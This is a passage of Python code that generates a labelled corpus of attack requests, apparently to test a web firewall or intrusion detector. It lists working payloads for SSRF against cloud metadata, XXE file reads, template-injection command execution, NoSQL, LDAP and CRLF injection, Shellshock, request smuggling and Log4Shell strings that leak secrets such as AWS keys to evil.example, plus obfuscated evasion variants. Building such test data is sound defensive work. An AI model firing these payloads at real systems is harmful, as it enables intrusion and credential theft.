    ";{wget,-q,http://evil.example/x}",
]

SSRF_PLAIN = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/user-data",
    "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1/project/project-id",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://100.100.100.200/latest/meta-data/",
    "http://127.0.0.1:6379/",
    "http://localhost:8080/admin",
    "http://[::1]/",
    "http://[::1]:22/",
    "http://127.0.0.1/server-status",
    "http://localhost/phpmyadmin/",
    "gopher://127.0.0.1:6379/_SET%20x%20pwned",
    "dict://127.0.0.1:11211/stats",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/api/token",
    "http://[fd00:ec2::254]/latest/meta-data/",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://127.0.0.1:2375/containers/json",
    "http://localhost:9200/_cat/indices",
    "http://169.254.170.2/v2/credentials",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://127.0.0.1:8500/v1/agent/self",
    "http://localhost:10250/pods",
    "http://0.0.0.0:8080/",
    "http://[::]:80/",
    "http://localhost:5984/_all_dbs",
    "http://127.0.0.1:25/",
    "ldap://127.0.0.1:389/",
    "http://192.0.0.192/latest/",
]

SSRF_EVASIVE = [
    "http://2130706433/",
    "http://0x7f000001/admin",
    "http://0177.0.0.1/",
    "http://017700000001/",
    "http://127.1/",
    "http://0/",
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
    "http://[0:0:0:0:0:ffff:127.0.0.1]/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://evil.example@169.254.169.254/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://127.0.0.1.nip.io:8080/",
    "http://localtest.me/",
    "http://METADATA.GOOGLE.INTERNAL/computeMetadata/v1/",
    "http://LocalHost:8080/admin",
    "http://\u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3/",
    "http://\u2460\u2465\u2468.\u2464\u2463.\u2460\u2465\u2468.\u2464\u2463/",
    "http://169.254.169.254%2flatest%2fmeta-data%2f",
    "http://0x7f.0x0.0x0.0x1/",
    "http://127.000.000.001/",
    "http://[0000::1]:80/",
    "http://localhost%00.example.com/",
]

XXE_DOCS = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data [<!ENTITY % ext SYSTEM '
    '"http://evil.example/x.dtd"> %ext;]><data>1</data>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
    '<r><name>&m;</name></r>',
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;">]>'
    '<lolz>&lol4;</lolz>',
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "php://filter/convert.base64-encode/resource=/etc/passwd">]>'
    '<x>&f;</x>',
    '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
    '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">'
    '<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/hostname">]><soap:Body><getUser><id>&x;</id>'
    '</getUser></soap:Body></soap:Envelope>',
    '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "file:///c:/windows/win.ini">]>'
    '<order><item>&x;</item></order>',
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % d SYSTEM "file:///etc/passwd">'
    '<!ENTITY % o "<!ENTITY &#x25; s SYSTEM \'http://evil.example/?%d;\'>">%o;%s;]><a/>',
    '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "expect://id">]><u>&x;</u>',
    '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "jar:http://evil.example/a.jar!/x">]><u>&x;</u>',
    '<?xml version="1.0"?><!DOCTYPE u [<!ENTITY x SYSTEM "netdoc:///etc/passwd">]><u>&x;</u>',
    '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    '<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    '<?xml version="1.0"?><!DOCTYPE u SYSTEM "http://evil.example/evil.dtd"><u>1</u>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "file:///proc/self/environ">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "gopher://127.0.0.1:25/_HELO">]><r>&x;</r>',
]

XXE_EVASIVE_DOCS = [
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe PUBLIC "-//X//Y" "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<?xml version="1.0"?>\n<!DOCTYPE\n  foo\n  [\n\t<!ENTITY\n\txxe\n\tSYSTEM\n\t"file:///etc/passwd"\n  >\n]>\n<foo>&xxe;</foo>',
    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE foo +AFs +ADwAIQ-ENTITY xxe SYSTEM '
    '+ACI-file:///etc/passwd+ACI +AD4AXQA+-+ADw-foo+AD4AJg-xxe+ADsAPA-/foo+AD4-',
    '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/hostname\'>">%a;]><foo>&b;</foo>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "fIlE:///eTc/pAsSwD">]><r><![CDATA[x]]>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file://localhost/etc/passwd">]><r a="&x;">1</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "/etc/passwd">]><r>&x;</r>',
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://evil.example/x.dtd">%x;]><r/>',
]

SSTI_PLAIN = [
    "{{7*7}}",
    "{{config.items()}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('system')|join}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}",
    "${7*7}",
    "#{7*7}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
    "#{session.setAttribute('role','admin')}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
    "<%= system('id') %>",
    "<%= `id` %>",
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "${self.module.cache.util.os.system('id')}",
    "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.pop}}{{/with}}{{/with}}",
    "${pageContext.request.getSession().getServletContext().getServerInfo()}",
    "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
    "${applicationScope}",
]

SSTI_EVASIVE = [
    "{{''['__cla'+'ss__']['__mro__'][1]['__subclasses__']()}}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
    "{{request|attr(['_'*2,'class','_'*2]|join)}}",
    "{{ 7 * 7 }}",
    "{{\n7*7\n}}",
    "{%print(7*7)%}",
    "{{''['\\u005f\\u005fclass\\u005f\\u005f']}}",
    "${\"freemarker.template.utility.Execute\"?new()(\"i\"+\"d\")}",
    "${T (java.lang.Runtime).getRuntime().exec(new String(new byte[]{105,100}))}",
    "{{lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}",
    "{{(()|attr('\\x5f\\x5fclass\\x5f\\x5f'))}}",
    "{%set x=request.args%}{{x}}",
    "${{7*7}}",
    "{{cycler['__in'+'it__']['__glo'+'bals__']['o'+'s']['po'+'pen']('id')['read']()}}",
    "#{T(java.lang.Runtime).getRuntime().exec('i'.concat('d'))}",
    "{{request['application']['\\x5f\\x5fglobals\\x5f\\x5f']}}",
    "<#assign\tex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\u0027\u0027.getClass()}",
]

NOSQL_JSON = [
    {"username": {"$ne": None}, "password": {"$ne": None}},
    {"username": "admin", "password": {"$gt": ""}},
    {"$where": "this.password.length > 0"},
    {"username": "admin", "$where": "sleep(5000) || true"},
    {"username": {"$regex": "^adm"}, "password": {"$ne": "x"}},
    {"filter": {"$or": [{"owner": "me"}, {"$where": "1 == 1"}]}},
    {"username": {"$in": ["admin", "root", "administrator"]}, "password": {"$ne": ""}},
    {"query": {"price": {"$gt": 0}, "$where": "function(){return true}"}},
    {"id": {"$nin": []}},
    {"token": {"$exists": True}},
    {"email": {"$regex": ".*"}, "password": {"$regex": ".*"}},
    {"user": {"profile": {"role": {"$ne": "guest"}}}},
    {"pipeline": [{"$lookup": {"from": "users", "localField": "a", "foreignField": "b", "as": "c"}}]},
    {"username": "admin", "password": {"$where": "return true"}},
    {"search": {"$expr": {"$gt": ["$balance", 0]}}},
]

NOSQL_FORM = [
    "username[$ne]=x&password[$ne]=x",
    "user=admin&pass[$gt]=",
    "q[$regex]=.*",
    "id[$where]=sleep(1000)",
    "login[$nin][]=x&password[$ne]=",
    "email[$exists]=true&password[$ne]=1",
    "username=admin&password[$regex]=^a",
    "filter[$where]=this.isAdmin",
]

NOSQL_JS = [
    "' || '1'=='1",
    "';return true;var x='",
    "admin' && this.password.match(/.*/)//",
    "'; while(true){}; '",
    "1; return db.users.find()",
]

NOSQL_EVASIVE_JSON_TEXT = [
    '{"username":"admin","password":{"\\u0024ne":null}}',
    '{"username":{"\\u0024gt":""},"password":{"\\u0024gt":""}}',
    '{ "username" :\n\t{ "$ne" :\n null } ,\n "password" : { "$ne" : null } }',
    '{"$where":"this[\\u0027pass\\u0027+\\u0027word\\u0027].length>0"}',
    '{"q":{"$where":"this[\\"pass\\"+\\"word\\"]!=null"}}',
    '{"user":[{"$ne":1}],"password":[{"$ne":1}]}',
]

NOSQL_EVASIVE_FORM = [
    "username%5B%24ne%5D=x&password%5B%24ne%5D=x",
    "username%255B%2524ne%255D=x&password%255B%2524ne%255D=x",
    "user=admin&pass%5b%24gt%5d=",
    "username[%24ne]=1&password[%24ne]=1",
    "q[%24where]=sleep(1000)",
    "username[$n%65]=x&password[$n%65]=x",
    "login[$regex]=a.*&login[$options]=i&password[$ne]=",
    "id%5B%24nin%5D%5B%5D=1",
]

LDAP_PLAIN = [
    "*)(uid=*))(|(uid=*",
    "admin)(&)",
    "*)(|(objectClass=*)",
    "admin*)((|userPassword=*)",
    "*)(&(objectClass=user)(description=*)",
    "x)(|(cn=*)",
    "*))%00",
    "admin)(!(&(1=0)",
    "*(|(mail=*))",
    ")(cn=*))(|(cn=*",
    "*)(userPassword=*)",
    "admin)(|(password=*)",
    "*)(memberOf=cn=Domain Admins,cn=Users,dc=example,dc=com)",
    "jdoe)(objectClass=*",
    "*))(|(objectCategory=person)",
    "*)(|(sAMAccountName=*)",
    "(&(uid=admin)(userPassword=*))",
    "*)(telephoneNumber=*",
    "admin))(|(uid=*",
    "*()|&'",
]

LDAP_EVASIVE = [
    "*)(ObJeCtClAsS=*)",
    "\uff0a)(uid=\uff0a",
    "*)\t(|\t(uid=*)",
    "admin\\29\\28\\7c\\28uid=\\2a",
    "*%29%28uid%3D*%29%29%28%7C%28uid%3D*",
    "*)(UID=*))(|(UID=*",
    "a*)(|(cn=*)(cn=*",
    "*)(|(objectclass=*)\n",
    "*)(%26)",
    "*)(uid=*)%00",
]

JNDI_HOSTS = ["evil.example:1389", "198.51.100.12:1389", "x.evil.example", "evil.example"]

JNDI_PLAIN = [
    "${jndi:ldap://evil.example:1389/a}",
    "${jndi:rmi://198.51.100.12:1099/Exploit}",
    "${jndi:dns://evil.example/a}",
    "${jndi:ldaps://evil.example/a}",
    "${jndi:iiop://evil.example/a}",
    "${jndi:corba://evil.example/a}",
    "${jndi:nds://evil.example/a}",
    "${jndi:http://evil.example/a}",
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/a}",
    "${jndi:ldap://${sys:java.version}.evil.example/a}",
    "${jndi:ldap://${hostName}.evil.example/a}",
    "${jndi:ldap://198.51.100.12:1389/Basic/Command/Base64/aWQ=}",
    "${jndi:rmi://evil.example/${java:version}}",
    "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
    "${jndi:nis://evil.example/a}",
    "${jndi:ldap://evil.example/o=reference}",
]

JNDI_EVASIVE = [
    "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    "${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://evil.example/a}",
    "${${upper:j}ndi:ldap://evil.example/a}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
    "${jn${lower:d}i:l${lower:d}ap://evil.example/a}",
    "${jNdI:LdAp://evil.example/a}",
    "${${::-j}ndi:rmi://evil.example/a}",
    "${j${::-n}di:dns://evil.example/a}",
    "${${lower:jndi}:${lower:rmi}://evil.example/a}",
    "${${upper:J}${upper:N}${upper:D}${upper:I}:ldap://evil.example/a}",
    "${jndi:${::-l}${::-d}${::-a}${::-p}://evil.example/a}",
    "${${main:\\k5:-Jnd}i:ldap://evil.example/a}",
    "${${sys:sun.cpu.isalist}jndi:ldap://evil.example/a}",
    "${${env:ENV_NAME:-j}ndi${env:ENV_NAME:-:}${env:ENV_NAME:-l}dap${env:ENV_NAME:-:}//evil.example/a}",
    "${j${lower:n}d${lower:i}:ldap://evil.example/a}",
    "${\tjndi:ldap://evil.example/a}",
    "${jndi:ldap:/\\/evil.example/a}",
    "${base64:JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0=}",
    "$%7Bjndi:ldap://evil.example/a%7D",
    "${${::-$}{jndi:ldap://evil.example/a}}",
    "${${lower:${lower:jndi}}:${lower:ldap}://evil.example/a}",
    "\u0024{jndi:ldap://evil.example/a}",
    "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}",
]

CRLF_QUERY = [
    ("/redirect", "url", "/home%0d%0aSet-Cookie:%20session=attacker"),
    ("/lang", "l", "en%0d%0aLocation:%20http://evil.example/"),
    ("/search", "q", "x%0d%0a%0d%0a<script>alert(1)</script>"),
    ("/track", "ref", "a%0aSet-Cookie:admin=1"),
    ("/go", "to", "/%0dSet-Cookie:%20sid=evil"),
    ("/download", "name", "report.pdf%0d%0aContent-Disposition:%20attachment;filename=evil.exe"),
    ("/api/v1/export", "filename", "data.csv%0d%0aX-XSS-Protection:0"),
    ("/redirect", "next", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"),
    ("/login", "return", "https://example.com/%0d%0aRefresh:%200;url=http://evil.example"),
    ("/set", "theme", "dark%0d%0aAccess-Control-Allow-Origin:%20*"),
    ("/logout", "next", "/%0D%0ALocation:%20//evil.example"),
    ("/img", "src", "a.png%0d%0aCache-Control:%20public,max-age=31536000"),
]

CRLF_EVASIVE_QUERY = [
    ("/redirect", "url", "/home%E5%98%8A%E5%98%8DSet-Cookie:%20session=attacker"),
    ("/redirect", "url", "/home%u000d%u000aSet-Cookie:%20session=attacker"),
    ("/lang", "l", "en%250d%250aLocation:%20http://evil.example/"),
    ("/go", "to", "/%0d%20Set-Cookie:%20x=1"),
    ("/track", "ref", "x%0A%09Set-Cookie:a=b"),
    ("/redirect", "url", "%5Cr%5CnSet-Cookie:x=1"),
    ("/search", "q", "x%c4%8d%c4%8aSet-Cookie:y=1"),
    ("/lang", "l", "en%0D%0aset-COOKIE:%20Admin=1"),
]

SCANNER_UAS = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0-dev",
    "Wfuzz/3.1.0",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Acunetix",
    "w3af.org",
    "Arachni/v1.5.1",
    "Mozilla/5.0 (compatible; Nessus; +http://www.nessus.org)",
    "ZmEu",
    "Morfeus Fucking Scanner",
    "Jorgee",
    "Havij",
    "Mozilla/5.0 (compatible; Netsparker)",
    "commix/v3.8-stable (https://commixproject.com)",
    "xsser/1.8",
    "feroxbuster/2.10.0",
    "DirB/2.22",
    "WhatWeb/0.5.5",
    "OpenVAS-VT",
    "Mozilla/5.0 (Windows; U) Nikto",
    "BlackWidow",
    "Mozilla/5.0 (compatible; Qualys Web Application Scanner)",
    "python-httpx/0.27.0 nuclei",
]

SCANNER_PATHS = ["/", "/wp-login.php", "/phpmyadmin/", "/.git/HEAD", "/admin/", "/server-status",
                 "/.env", "/wp-content/plugins/", "/cgi-bin/test.cgi", "/backup.zip",
                 "/actuator/health", "/robots.txt", "/xmlrpc.php", "/console/", "/.DS_Store"]

SCANNER_EVASIVE = [
    ("user-agent", "SQLMap/1.7.2"),
    ("user-agent", "Mozilla/5.0 (compatible; NIKTO)"),
    ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36 sqlmap"),
    ("user-agent", "  nikto  "),
    ("acunetix-product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"),
    ("x-scanner", "Netsparker"),
    ("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/91.0 WPScan"),
    ("user-agent", "MaSsCaN/1.3"),
]


def gen_attacks(rng):
    c = Corpus()

    # SQL injection
    emit(c, rng, "sqli", SQLI_PLAIN, SQLI_EVASIVE,
         ["id", "q", "user", "sort", "category", "order", "product_id", "search", "username"])

    # XSS
    emit(c, rng, "xss", XSS_PLAIN, XSS_EVASIVE,
         ["q", "name", "comment", "message", "title", "redirect", "callback", "search"])

    # Path traversal / local file inclusion. Payloads with their own
    # percent-encoding go in as they are (raw), not encoded again.
    trav_locs = ["query", "query", "form", "json", "cookie", "path", "multipart", "filename",
                 "query", "header", "form"]
    trav_params = ["file", "path", "page", "template", "doc", "download", "include", "lang"]
    for i, p in enumerate(TRAV_PLAIN):
        loc = trav_locs[i % len(trav_locs)]
        enc = "raw" if "%" in p else ("std" if i % 2 else "raw")
        if loc == "path" and "%" not in p:
            enc = "pct"
        place(c, rng, "traversal", p, loc, trav_params, enc)
    for i, p in enumerate(TRAV_EVASIVE):
        loc = trav_locs[(i + 3) % len(trav_locs)]
        if "%" in p and loc in ("json", "multipart", "filename", "header", "cookie"):
            loc = "query"
        if loc == "path":
            enc = "raw" if "%" in p else "double"
        else:
            enc = "raw" if ("%" in p or i % 3) else "double"
        place(c, rng, "traversal", p, loc, trav_params, enc, evasive=True)
    # Straight in the path (Apache normalises a plain ../ itself).
    for url, ev in [("/static/../../../../etc/passwd", False),
                    ("/download/..%2f..%2f..%2f..%2fetc%2fpasswd", False),
                    ("/images/%2e%2e/%2e%2e/%2e%2e/etc/passwd", True)]:
        c.add("traversal", "GET", url, attacker_headers(rng), evasive=ev)

    # Remote file inclusion
    emit(c, rng, "rfi", RFI_PLAIN, RFI_EVASIVE,
         ["page", "include", "file", "template", "url", "module", "load", "lang"],
         locs=["query", "query", "form", "json", "cookie", "multipart", "query", "header", "form"],
         plain_encs=("raw", "std"))

    # OS command injection
    cmdi_params = ["host", "ip", "cmd", "domain", "filename", "ping", "target", "exec"]
    emit(c, rng, "cmdi", CMDI_PLAIN, [p if "%" not in p else (p, "query", "raw") for p in CMDI_EVASIVE],
         cmdi_params)
    # Shellshock in headers.
    for hdr in ("user-agent", "referer", "cookie"):
        h = attacker_headers(rng)
        h[hdr] = "() { :; }; /bin/bash -c 'cat /etc/passwd'"
        c.add("cmdi", "GET", "/cgi-bin/status.cgi", h)

    # SSRF: URL-ish parameters, JSON webhooks, a few headers.
    ssrf_params = ["url", "target", "callback", "webhook", "image_url", "feed", "dest", "proxy",
                   "fetch", "avatar_url"]
    ssrf_locs = ["query", "json", "form", "query", "json", "multipart", "header", "query", "form", "cookie"]
    emit(c, rng, "ssrf", SSRF_PLAIN,
         [p if "%" not in p else (p, "query", "raw") for p in SSRF_EVASIVE],
         ssrf_params, locs=ssrf_locs, plain_encs=("raw", "std"),
         evasive_encs=("raw", "std", "raw", "double", "std", "unicode", "raw", "std"))

    # XXE
    xml_cts = ["application/xml", "text/xml", "application/soap+xml", "application/xml; charset=utf-8"]
    for i, doc in enumerate(XXE_DOCS):
        h = attacker_headers(rng)
        if i % 4 == 3:   # inside a multipart upload (an SVG or an XML import)
            body, ct = multipart(rng, [("name", "import"),
                                       ("file", "import.xml" if "svg" not in doc else "logo.svg",
                                        "image/svg+xml" if "svg" in doc else "application/xml", doc)])
            h["content-type"] = ct
            c.add("xxe", "POST", "/upload", h, body)
        else:
            h["content-type"] = xml_cts[i % len(xml_cts)]
            c.add("xxe", "POST", rng.choice(["/api/import", "/soap/UserService", "/xmlrpc", "/feed/ingest"]),
                  h, doc)
    for doc in XXE_DOCS[:6]:  # the same documents in a form field
        h = attacker_headers(rng)
        h["content-type"] = "application/x-www-form-urlencoded"
        c.add("xxe", "POST", "/api/import", h, form_body([("format", "xml"), ("data", doc)]))
    for i, doc in enumerate(XXE_EVASIVE_DOCS):
        h = attacker_headers(rng)
        h["content-type"] = xml_cts[i % len(xml_cts)]
        c.add("xxe", "POST", "/api/import", h, doc, evasive=True)
    # Evasion by content type: XML sent as text/plain or JSON-wrapped.
    for doc in XXE_DOCS[:3]:
        h = attacker_headers(rng)
        h["content-type"] = "text/plain"
        c.add("xxe", "POST", "/api/import", h, doc, evasive=True)
    for doc in XXE_DOCS[3:5]:
        h = attacker_headers(rng)
        h["content-type"] = "application/json"
        c.add("xxe", "POST", "/api/import", h, jdump({"format": "xml", "document": doc}), evasive=True)
    h = attacker_headers(rng)
    c.add("xxe", "GET", "/api/import?xml=" + enc_double(XXE_DOCS[0]), h, evasive=True)

    # Server-side template injection
    emit(c, rng, "ssti", SSTI_PLAIN, SSTI_EVASIVE,
         ["name", "template", "q", "greeting", "subject", "message", "preview"],
         locs=["query", "form", "json", "query", "multipart", "path", "cookie", "header", "form", "json"])

    # NoSQL injection
    for i, obj in enumerate(NOSQL_JSON):
        h = attacker_headers(rng)
        h["content-type"] = "application/json"
        c.add("nosqli", "POST", rng.choice(["/api/login", "/api/v1/users/search", "/api/v1/orders/query"]),
              h, jdump(obj))
    for i, f in enumerate(NOSQL_FORM):
        h = attacker_headers(rng)
        if i % 2:
            c.add("nosqli", "GET", "/api/login?" + f, h)
        else:
            h["content-type"] = "application/x-www-form-urlencoded"
            c.add("nosqli", "POST", "/login", h, f)
    for p in NOSQL_JS:
        place(c, rng, "nosqli", p, rng.choice(["query", "json", "form"]), ["username", "q", "filter"])
    for t in NOSQL_EVASIVE_JSON_TEXT:
        h = attacker_headers(rng)
        h["content-type"] = "application/json"
        c.add("nosqli", "POST", "/api/login", h, t, evasive=True)
    for i, f in enumerate(NOSQL_EVASIVE_FORM):
        h = attacker_headers(rng)
        if i % 2:
            c.add("nosqli", "GET", "/api/login?" + f, h, evasive=True)
        else:
            h["content-type"] = "application/x-www-form-urlencoded"
            c.add("nosqli", "POST", "/login", h, f, evasive=True)

    # LDAP injection
    emit(c, rng, "ldapi", LDAP_PLAIN,
         [p if "%" not in p else (p, "query", "raw") for p in LDAP_EVASIVE],
         ["user", "username", "uid", "login", "cn", "search"],
         locs=["query", "form", "json", "query", "multipart", "form", "cookie"],
         plain_encs=("raw", "std"))

    # JNDI / Log4Shell: mostly headers, which is where it was sprayed.
    jndi_locs = ["ua", "header", "referer", "xff", "query", "json", "cookie", "form", "ua", "header"]
    emit(c, rng, "jndi", JNDI_PLAIN,
         [p if "%" not in p else (p, "query", "raw") for p in JNDI_EVASIVE],
         ["q", "username", "x", "search"], locs=jndi_locs, plain_encs=("raw", "std"),
         evasive_encs=("std", "raw", "std", "double", "raw", "std"))
    h = attacker_headers(rng)
    h["authorization"] = "Bearer ${jndi:ldap://evil.example/a}"
    c.add("jndi", "GET", "/api/v1/me", h)
    h = attacker_headers(rng)
    h["x-api-version"] = "${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:l}dap://evil.example/a}"
    c.add("jndi", "GET", "/", h, evasive=True)

    # CRLF / header injection
    for path, param, val in CRLF_QUERY:
        c.add("crlf", "GET", f"{path}?{param}={val}", attacker_headers(rng))
    for path, param, val in CRLF_EVASIVE_QUERY:
        c.add("crlf", "GET", f"{path}?{param}={val}", attacker_headers(rng), evasive=True)
    crlf_form = [
        ("email", "user@example.com\r\nBcc: everyone@example.org"),
        ("subject", "Hello\r\nCc: victim@example.org"),
        ("name", "Bob\nX-Mailer: evil"),
        ("redirect", "/home\r\nSet-Cookie: a=b"),
        ("header", "X-Forwarded-For: 127.0.0.1\r\nX-Admin: 1"),
        ("filename", "a.txt\r\nContent-Type: text/html"),
    ]
    for i, (k, v) in enumerate(crlf_form):
        h = attacker_headers(rng)
        if i % 2:
            h["content-type"] = "application/json"
            c.add("crlf", "POST", "/api/v1/contact", h, jdump({"message": "hi", k: v}))
        else:
            h["content-type"] = "application/x-www-form-urlencoded"
            c.add("crlf", "POST", "/contact", h, form_body([("message", "hi"), (k, v)]))
    c.add("crlf", "GET", "/%0d%0aX-Injected:%20yes", attacker_headers(rng))
    c.add("crlf", "GET", "/api/%0aSet-Cookie:%20a=b/", attacker_headers(rng))
    # Raw CR LF inside header values: on the wire the value ends at the CR LF
    # and what follows is a header of its own (see the runner's README).
    for name, val in [("x-custom-header", "foo\r\nX-Injected: bar"),
                      ("referer", "https://example.com/\r\nSet-Cookie: admin=1"),
                      ("user-agent", "Mozilla/5.0\r\nX-Forwarded-For: 127.0.0.1"),
                      ("x-request-id", "abc\nX-Original-URL: /admin")]:
        h = attacker_headers(rng)
        h[name] = val
        c.add("crlf", "GET", "/", h)
    for name, val in [("x-custom-header", "foo\r\n\tX-Injected: bar"),
                      ("cookie", "a=b\r\nX-Admin: true")]:
        h = attacker_headers(rng)
        h[name] = val
        c.add("crlf", "GET", "/", h, evasive=True)
    h = attacker_headers(rng)
    h["content-type"] = "application/x-www-form-urlencoded"
    c.add("crlf", "POST", "/contact", h, "email=user%40example.com%0d%0aBcc%3aall%40example.org&message=hi")
    h = attacker_headers(rng)
    h["content-type"] = "application/x-www-form-urlencoded"
    c.add("crlf", "POST", "/contact", h, "email=user%40example.com%250d%250aBcc%3aall%40example.org",
          evasive=True)

    # Scanners: identified by their User-Agent (or their own headers).
    for i, ua in enumerate(SCANNER_UAS):
        h = {"host": "example.com", "user-agent": ua, "accept": "*/*"}
        c.add("scanner", "GET", SCANNER_PATHS[i % len(SCANNER_PATHS)], h)
    for name, val in SCANNER_EVASIVE:
        h = {"host": "example.com", "user-agent": CHROME_WIN, "accept": "*/*"}
        h[name] = val
        c.add("scanner", "GET", rng.choice(SCANNER_PATHS), h, evasive=True)

    gen_protocol(c, rng)
    return c


def gen_protocol(c, rng):
    """Protocol anomalies. The headers given here go on the wire as they are;
    the runner adds no Content-Length to a request that names its own
    Content-Length or Transfer-Encoding."""
    def base():
        return {"host": "example.com", "user-agent": CHROME_WIN, "accept": "*/*"}

    form = "application/x-www-form-urlencoded"
    # Content-Length and Transfer-Encoding both present (request smuggling).
    smuggled = "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: example.com\r\n\r\n"
    for cl, te, body, ev in [
        ("4", "chunked", "0\r\n\r\n", False),
        (str(len(smuggled.encode())), "chunked", smuggled, False),
